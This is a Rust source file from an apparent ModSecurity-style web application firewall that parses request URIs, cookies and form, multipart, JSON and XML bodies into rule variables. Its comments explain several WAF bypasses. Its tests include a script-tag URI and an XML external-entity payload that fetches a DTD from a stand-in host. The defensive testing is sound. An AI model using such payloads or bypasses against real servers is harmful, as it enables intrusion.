//! Request data for variable resolution.

use super::collection::{Collection, HashMapCollection};
use std::borrow::Cow;

/// Request data container.
#[derive(Debug, Clone, Default)]
pub struct RequestData {
    /// HTTP method.
    pub method: String,
    /// Request URI (with query string).
    pub uri: String,
    /// Raw URI.
    pub uri_raw: String,
    /// Request path (without query string).
    pub path: String,
    /// Query string.
    pub query_string: String,
    /// HTTP protocol version.
    pub protocol: String,
    /// Request headers.
    pub headers: HashMapCollection,
    /// GET arguments.
    pub args_get: HashMapCollection,
    /// POST arguments.
    pub args_post: HashMapCollection,
    /// Cookies.
    pub cookies: HashMapCollection,
    /// Multipart part headers (key = part name, value = full header line),
    /// populated by the multipart body processor. Mirrors ModSecurity's
    /// `MULTIPART_PART_HEADERS` collection.
    pub multipart_part_headers: HashMapCollection,
    /// What the multipart processor found suspect (`MULTIPART_*`).
    pub multipart_flags: super::multipart::MultipartFlags,
    /// Uploaded files (key = part name, value = client-supplied filename),
    /// populated by the multipart body processor. Backs `FILES`/`FILES_NAMES`.
    pub files: HashMapCollection,
    /// Each upload's size in bytes, by part name (`FILES_SIZES`; their sum is
    /// `FILES_COMBINED_SIZE`).
    pub files_sizes: HashMapCollection,
    /// Name of the body processor that handled the request body
    /// (`MULTIPART`, `URLENCODED`, `JSON`, or empty when none ran). Backs
    /// `REQBODY_PROCESSOR`.
    pub body_processor: String,
    /// Why the body processor could not process the body, if it failed.
    ///
    /// Backs `REQBODY_ERROR` (1 when set, 0 otherwise) and
    /// `REQBODY_ERROR_MSG`. CRS rule 200002 blocks on this, which only works
    /// if a failed parse is observable: a strict parser rejecting a payload
    /// that the origin application happily accepts is a bypass when it
    /// happens quietly.
    pub body_error: Option<String>,
    /// Request body: shares the buffer it was handed (`set_body`), never a copy of it.
    pub body: bytes::Bytes,
    /// The body as text (`REQUEST_BODY`), made once: decoding a large body that is not
    /// UTF-8 for each rule that reads it cost more than the rules did. With it, whether
    /// the body's bytes were UTF-8 (the text is then the body itself).
    pub(crate) body_text: std::cell::OnceCell<(String, bool)>,
    /// The text of each argument name and value, and of the path, whose bytes as received
    /// (percent-decoded) were not UTF-8, and those bytes. Rules see text;
    /// `@validateUtf8Encoding` asks about the bytes (CRS 920250), and `@rx` searches them
    /// too, as libmodsecurity searches bytes (CRS 944200's Java serialization header
    /// `\xac\xed\x00\x05` is not UTF-8).
    pub not_utf8: std::collections::HashMap<String, Vec<u8>>,
    /// Client IP address.
    pub client_ip: String,
    /// Client port.
    pub client_port: u16,
    /// Server name.
    pub server_name: String,
    /// Local address the connection was accepted on. Backs `SERVER_ADDR`.
    pub server_addr: String,
    /// Server port.
    pub server_port: u16,
    /// The transaction's id (`UNIQUE_ID`): the caller's request id where it gave one, else
    /// a number unique in the process, made the first time a rule reads it.
    pub unique_id: std::cell::OnceCell<String>,
    /// When the transaction began (`DURATION` counts from here).
    pub started: Option<std::time::Instant>,
}

impl RequestData {
    /// Create new request data.
    pub fn new() -> Self {
        Self::default()
    }

    /// Set the request target as libmodsecurity 3 does: `REQUEST_URI` and
    /// `REQUEST_FILENAME` (and so `REQUEST_BASENAME`) percent-decoded,
    /// `REQUEST_URI_RAW` and `QUERY_STRING` as received. The path is split from the
    /// query *before* it is decoded (libmodsecurity 3.0.12, CVE-2024-1019): 3.0.9
    /// decoded first, so `/a%3F<payload>` ended the path at the decoded `?` and the
    /// payload was in no variable the path rules read.
    pub fn set_uri(&mut self, uri: &str) {
        self.uri = percent_decode_lossy(uri).0;
        self.uri_raw = uri.to_string();
        let (path, query) = match uri.find('?') {
            Some(pos) => (&uri[..pos], Some(&uri[pos + 1..])),
            None => (uri, None),
        };
        let (path, raw) = percent_decode_lossy(path);
        if let Some(raw) = raw {
            self.not_utf8.insert(path.clone(), raw);
        }
        self.path = path;
        match query {
            Some(query) => {
                self.query_string = query.to_string();
                self.parse_query_string(query);
            }
            None => self.query_string.clear(),
        }
    }

    /// Set the HTTP method.
    pub fn set_method(&mut self, method: &str) {
        self.method = method.to_string();
    }

    /// Set the protocol.
    pub fn set_protocol(&mut self, protocol: &str) {
        self.protocol = protocol.to_string();
    }

    /// Add a request header.
    pub fn add_header(&mut self, name: &str, value: &str) {
        let lower = name.to_lowercase();
        if lower == "cookie" {
            self.parse_cookie_header(value);
        }
        self.headers.add(lower, value.to_string());
    }

    /// Parse a `Cookie` request header into the cookies collection.
    fn parse_cookie_header(&mut self, value: &str) {
        for pair in value.split(';') {
            let pair = pair.trim();
            if pair.is_empty() {
                continue;
            }
            match pair.split_once('=') {
                Some((k, v)) => self.cookies.add(k.trim().to_string(), v.trim().to_string()),
                None => self.cookies.add(pair.to_string(), String::new()),
            }
        }
    }

    /// Append to request body.
    pub fn append_body(&mut self, data: &[u8]) {
        let mut joined = Vec::with_capacity(self.body.len() + data.len());
        joined.extend_from_slice(&self.body);
        joined.extend_from_slice(data);
        self.set_body(joined.into());
    }

    /// The whole request body, as read: the buffer is shared, not copied.
    pub fn set_body(&mut self, body: bytes::Bytes) {
        self.body = body;
        self.body_text = std::cell::OnceCell::new();
    }

    /// The body as text, bytes that are not UTF-8 as U+FFFD (made once per body).
    pub fn body_text(&self) -> &str {
        &self.body_text.get_or_init(|| super::lossy::text(&self.body)).0
    }

    /// The body as it came, when its text has been made (a rule that reads
    /// `REQUEST_BODY` has had it made) and its bytes were not UTF-8.
    pub fn body_not_utf8(&self) -> Option<&[u8]> {
        self.body_text.get().is_some_and(|(_, utf8)| !utf8).then_some(&self.body[..])
    }

    /// [`RequestData::body_text`], owned.
    pub fn body_str(&self) -> String {
        self.body_text().to_string()
    }

    /// Get body length.
    pub fn body_length(&self) -> usize {
        self.body.len()
    }

    /// Parse query string into args_get.
    fn parse_query_string(&mut self, qs: &str) {
        for pair in qs.split('&') {
            if let Some(pos) = pair.find('=') {
                let key = self.form_text(&pair.as_bytes()[..pos]);
                let value = self.form_text(&pair.as_bytes()[pos + 1..]);
                self.args_get.add(key, value);
            } else if !pair.is_empty() {
                let key = self.form_text(pair.as_bytes());
                self.args_get.add(key, String::new());
            }
        }
    }

    /// One component of form-encoded input as text (`form_decode`), remembered in
    /// `not_utf8` when its bytes were not UTF-8.
    fn form_text(&mut self, component: &[u8]) -> String {
        let (text, raw) = form_decode(component);
        if let Some(raw) = raw {
            self.not_utf8.insert(text.clone(), raw);
        }
        text
    }

    /// Run the multipart body processor (`multipart.rs`): ARGS_POST, FILES,
    /// MULTIPART_PART_HEADERS, the `MULTIPART_*` flags, and REQBODY_ERROR for a body it
    /// could not read whole. `false` (and REQBODY_ERROR): the Content-Type names no
    /// usable boundary.
    pub fn parse_multipart_body(&mut self, content_type: &str) -> bool {
        let Some(parsed) = super::multipart::parse(content_type, &self.body) else {
            // None, or two (which one the application takes is anyone's guess).
            self.body_error.get_or_insert_with(|| "Multipart: no usable boundary in Content-Type".to_string());
            return false;
        };
        for part in parsed.parts {
            for line in part.headers {
                self.multipart_part_headers.add(part.name.clone(), line);
            }
            match part.filename {
                Some(file) => {
                    self.files_sizes.add(part.name.clone(), part.size.to_string());
                    self.files.add(part.name, file);
                }
                None => self.args_post.add(part.name, part.content),
            }
        }
        self.multipart_flags = parsed.flags;
        if let Some(error) = parsed.error {
            self.body_error.get_or_insert(error);
        }
        self.body_processor = "MULTIPART".to_string();
        true
    }

    /// The uploaded files' sizes together (`FILES_COMBINED_SIZE`).
    pub fn files_combined_size(&self) -> usize {
        use super::collection::Collection;
        self.files_sizes.all().into_iter().filter_map(|(_, size)| size.parse::<usize>().ok()).sum()
    }

    /// Parse form body into args_post.
    pub fn parse_form_body(&mut self) {
        // Split as bytes: a byte that is not UTF-8 reaches `form_decode` as it came.
        let body = self.body.clone();
        for pair in body.split(|&b| b == b'&') {
            if let Some(pos) = pair.iter().position(|&b| b == b'=') {
                let key = self.form_text(&pair[..pos]);
                let value = self.form_text(&pair[pos + 1..]);
                self.args_post.add(key, value);
            } else if !pair.is_empty() {
                // A parameter with no `=` is a name with an empty value, which
                // is how application frameworks parse it. Dropping it here was
                // a bypass: percent-encoding the `=` leaves a body with no
                // literal separator, so the whole body became invisible to
                // ARGS and ARGS_NAMES while the origin still saw a parameter.
                // The query-string parser has always handled this shape.
                let key = self.form_text(pair);
                self.args_post.add(key, String::new());
            }
        }
    }

    /// Parse a JSON body into `args_post` as ModSecurity's JSON processor does
    /// (`json_body.rs`: `json.user.name`, `json.tags.0`). The reason it could not be
    /// processed, if any, becomes `REQBODY_ERROR`: a strict parser rejecting a payload
    /// that the origin application accepts is a bypass if it happens quietly.
    pub fn parse_json_body(&mut self) -> Result<(), String> {
        self.body_processor = "JSON".to_string();
        super::json_body::flatten(&self.body, &mut self.args_post)
            .inspect_err(|msg| self.body_error = Some(msg.clone()))
    }

    /// Parse an XML body, flattening element text and attributes into `args_post`
    /// (`xml_body.rs`: `xml.order.item.@id`-style names, entities as libxml2 reads them).
    /// The reason it could not be processed, if any, becomes `REQBODY_ERROR`.
    pub fn parse_xml_body(&mut self) -> Result<(), String> {
        self.body_processor = "XML".to_string();
        super::xml_body::flatten(&self.body, &mut self.args_post).inspect_err(|msg| self.body_error = Some(msg.clone()))
    }

    /// Get all arguments (GET + POST combined).
    pub fn all_args(&self) -> Vec<(&str, &str)> {
        let mut all = self.args_get.all();
        all.extend(self.args_post.all());
        all
    }
}

/// Decode one component of `application/x-www-form-urlencoded` input.
///
/// In that encoding `+` denotes a space -- it is what a browser emits for a
/// space in a submitted form -- so decoding only percent-escapes leaves the
/// argument holding a literal `+` where the origin application will see a
/// space. Any rule matching a payload that contains whitespace then misses,
/// which is a bypass rather than a coverage gap: the same request reaches the
/// application as spaces either way.
///
/// The `+` substitution happens *before* percent-decoding, so a plus that was
/// genuinely sent as `%2B` survives as a plus instead of becoming a space.
///
/// Also says whether the decoded bytes were UTF-8.
fn form_decode(component: &[u8]) -> (String, Option<Vec<u8>>) {
    let plus_decoded: Cow<'_, [u8]> = if component.contains(&b'+') {
        Cow::Owned(component.iter().map(|&b| if b == b'+' { b' ' } else { b }).collect())
    } else {
        Cow::Borrowed(component)
    };
    // Borrowed when there was nothing to decode: one copy per argument, not two.
    let bytes: Cow<'_, [u8]> = percent_encoding::percent_decode(&plus_decoded).into();
    let text = super::overlong::decode_lossy(&bytes);
    // decode_lossy borrows exactly when the bytes are UTF-8 as they are.
    match text {
        Cow::Borrowed(text) => (text.to_owned(), None),
        Cow::Owned(text) => (text, Some(bytes.into_owned())),
    }
}

/// `%XX` sequences decoded (nothing else: `+` stays `+`, as libmodsecurity's
/// `uri_decode`); bytes that are not UTF-8 become U+FFFD, and are given back beside.
fn percent_decode_lossy(text: &str) -> (String, Option<Vec<u8>>) {
    let bytes: Cow<'_, [u8]> = percent_encoding::percent_decode_str(text).into();
    match String::from_utf8(bytes.into_owned()) {
        Ok(text) => (text, None),
        Err(e) => (String::from_utf8_lossy(e.as_bytes()).into_owned(), Some(e.into_bytes())),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn test_parse_cookie_header() {
        let mut req = RequestData::new();
        req.add_header("Cookie", "session=abc123; theme=dark; bare");
        assert_eq!(req.cookies.get("session"), Some(vec!["abc123"]));
        assert_eq!(req.cookies.get("theme"), Some(vec!["dark"]));
        assert_eq!(req.cookies.get("bare"), Some(vec![""]));
    }

    #[test]
    fn test_parse_multipart_body_fields_and_headers() {
        let mut req = RequestData::new();
        let body = "--XyZ\r\n\
                    Content-Disposition: form-data; name=\"field1\"\r\n\
                    \r\n\
                    value1\r\n\
                    --XyZ\r\n\
                    Content-Disposition: form-data; name=\"upload\"; filename=\"a.txt\"\r\n\
                    Content-Type: text/plain\r\n\
                    \r\n\
                    file contents\r\n\
                    --XyZ--\r\n";
        req.append_body(body.as_bytes());
        assert!(req.parse_multipart_body("multipart/form-data; boundary=XyZ"));

        // Form field lands in ARGS_POST.
        assert_eq!(req.args_post.get("field1"), Some(vec!["value1"]));
        // File part does NOT land in ARGS_POST but in FILES.
        assert_eq!(req.args_post.get("upload"), None);
        assert_eq!(req.files.get("upload"), Some(vec!["a.txt"]));

        // Every part header line is recorded under the part name.
        let field1_headers = req.multipart_part_headers.get("field1").unwrap();
        assert_eq!(field1_headers, vec!["Content-Disposition: form-data; name=\"field1\""]);
        let upload_headers = req.multipart_part_headers.get("upload").unwrap();
        assert!(upload_headers.contains(&"Content-Type: text/plain"));
        assert_eq!(req.body_processor, "MULTIPART");
    }

    #[test]
    fn test_parse_multipart_body_quoted_boundary_and_lf_only() {
        let mut req = RequestData::new();
        let body = "--b1\nContent-Disposition: form-data; name=\"k\"\n\nv\n--b1--\n";
        req.append_body(body.as_bytes());
        assert!(req.parse_multipart_body("multipart/form-data; boundary=\"b1\""));
        assert_eq!(req.args_post.get("k"), Some(vec!["v"]));
    }

    #[test]
    fn the_path_is_split_from_the_query_before_it_is_decoded() {
        let mut req = RequestData::new();
        req.set_uri("/a%3Fb/%3Cscript%3E?q=%27x%27+y");
        assert_eq!(req.path, "/a?b/<script>");
        assert_eq!(req.uri, "/a?b/<script>?q='x'+y");
        assert_eq!(req.uri_raw, "/a%3Fb/%3Cscript%3E?q=%27x%27+y");
        assert_eq!(req.query_string, "q=%27x%27+y");
        assert_eq!(req.args_get.get("q"), Some(vec!["'x' y"]));
    }

    #[test]
    fn an_xml_body_declaring_an_external_entity_is_a_body_error() {
        let mut req = RequestData::new();
        req.append_body(b"<?xml version=\"1.0\"?>\n<!DOCTYPE foo [\n<!ENTITY % remote SYSTEM \"http://203.0.113.9/x.dtd\">\n%remote; ]>\n<xml><t>hi</t></xml>");
        assert!(req.parse_xml_body().unwrap_err().contains("'%remote'"));
        assert!(req.body_error.is_some(), "REQBODY_ERROR: 200002 refuses it");
    }

    #[test]
    fn test_parse_multipart_body_missing_boundary() {
        let mut req = RequestData::new();
        req.append_body(b"irrelevant");
        assert!(!req.parse_multipart_body("multipart/form-data"));
        assert!(req.body_processor.is_empty());
        assert!(req.body_error.is_some(), "REQBODY_ERROR: 200002 refuses it");
    }
}
